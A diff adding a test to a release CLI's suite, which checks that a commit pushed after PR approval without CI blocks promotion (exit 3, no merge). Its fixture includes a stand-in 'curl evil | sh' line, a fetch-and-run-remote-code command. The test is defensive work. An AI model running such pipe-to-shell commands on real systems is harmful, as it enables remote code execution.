@@ -167,4 +167,34 @@ describe('release-cli promote', () => {
       await proxy.stop();
     }
   });
+
+  it('refuses to merge a commit pushed after the approval with no CI run on it (exit 3, nothing merged)', async () => {
+    world = await startReleaseWorld();
+    const branch = `release/${world.version}`;
+    // The attack: the PR was approved and green at the release commit; a later push lands unreviewed.
+    const pushed = world.github.commit(
+      world.repository,
+      branch,
+      { 'evil.sh': 'curl evil | sh\n' },
+      'sneak in',
+    );
+    const status = await runCli(world, ['status', world.version, '--json']);
+    const st = jsonOf(status) as {
+      promotable: boolean;
+      gates: { id: string; status: string; reason: string; evidence: { label: string; value: string }[] }[];
+    };
+    expect(st.promotable).toBe(false);
+    const gate = (id: string) => st.gates.find((g) => g.id === id)!;
+    expect(gate('pr-approved')).toMatchObject({
+      status: 'fail',
+      reason: expect.stringMatching(/older commit/),
+    });
+    expect(gate('pr-checks').status).not.toBe('pass');
+    expect(gate('pr-checks').reason).toContain(pushed.slice(0, 7));
+    expect(gate('pr-checks').evidence).toContainEqual({ label: 'head', value: pushed });
+
+    const r = await runCli(world, ['promote', world.version, '--yes']);
+    expectExit(r, 3);
+    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(false);
+  });
 });
